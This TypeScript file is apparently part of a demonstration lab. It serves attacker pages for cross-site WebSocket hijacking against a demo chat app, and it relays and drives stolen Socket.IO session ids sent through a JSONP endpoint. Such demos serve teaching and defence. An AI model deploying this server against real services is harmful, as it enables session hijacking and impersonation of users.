import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { ChatEndpoint } from './chat-endpoint.js';
import { JSONP_RELAY_PATH } from './pages/attack-script.js';
import {
  ATTACKER_PAGE_PATHS,
  type AttackLaunch,
  attackerPage,
  launchApplies,
} from './pages/attacker-page.js';
import { hijackStolenSession } from './stolen-session.js';

/** The launches by page path; any other path serves the page itself. */
const LAUNCHES = new Map(
  Object.entries(ATTACKER_PAGE_PATHS).map(([launch, path]) => [path, launch as AttackLaunch]),
);

/** engine.io session ids are base64url; a small body is all the JSONP page sends. */
const SID = /^[\w-]{1,64}$/;
const MAX_RELAY_BODY = 1024;

/**
 * The attacker's site: a page on another origin (another port on the same host, so the
 * browser treats it as same-site and attaches the victim's cookies) that opens the app's
 * socket (`ws` or Socket.IO), at `/`; the same attack from a sandboxed iframe (`Origin: null`)
 * at `/sandboxed`; and, against Socket.IO, the JSONP attack at `/jsonp`, whose stolen session
 * id this server drives (`POST /jsonp/session`). Deliberately not a Nest app: an attacker
 * needs nothing from the target.
 *
 * `port` 0 picks a free port; read it from the returned server's `address()`.
 */
export function startAttackerServer(
  port: number,
  host: string,
  target: ChatEndpoint,
): Promise<Server> {
  const server = createServer((request, response) => {
    const path = (request.url ?? '/').split('?')[0] ?? '/';
    // The pages declare no icon to fetch; anything that asks anyway gets no content, not a 404.
    if (path === '/favicon.ico') {
      response.writeHead(204);
      response.end();
      return;
    }
    if (path === JSONP_RELAY_PATH && launchApplies(target, 'jsonp')) {
      relayStolenSession(target, request, response);
      return;
    }
    const launch = LAUNCHES.get(path) ?? 'page';
    if (!launchApplies(target, launch)) {
      response.writeHead(404, { 'Content-Type': 'text/plain; charset=utf-8' });
      response.end(
        `The ${launch} attack needs the Socket.IO chat: restart the demo with DEMO_TRANSPORT=socket.io.`,
      );
      return;
    }
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    response.end(attackerPage(target, launch));
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, () => resolve(server));
  });
}

/** Takes `{ sid }` from the JSONP page, drives that session, answers with the outcome. */
function relayStolenSession(
  target: ChatEndpoint,
  request: IncomingMessage,
  response: ServerResponse,
): void {
  let body = '';
  request.setEncoding('utf8');
  request.on('data', (chunk: string) => {
    body += chunk;
    if (body.length > MAX_RELAY_BODY) request.destroy();
  });
  request.on('end', () => {
    const { sid } = parseRelayBody(body);
    if (request.method !== 'POST' || sid === undefined) {
      response.writeHead(400, { 'Content-Type': 'text/plain; charset=utf-8' });
      response.end('POST {"sid": "<engine.io session id>"}');
      return;
    }
    void hijackStolenSession(target.url, sid).then((outcome) => {
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.end(JSON.stringify(outcome));
    });
  });
}

function parseRelayBody(body: string): { sid?: string } {
  try {
    const { sid } = JSON.parse(body) as { sid?: unknown };
    return typeof sid === 'string' && SID.test(sid) ? { sid } : {};
  } catch {
    return {};
  }
}
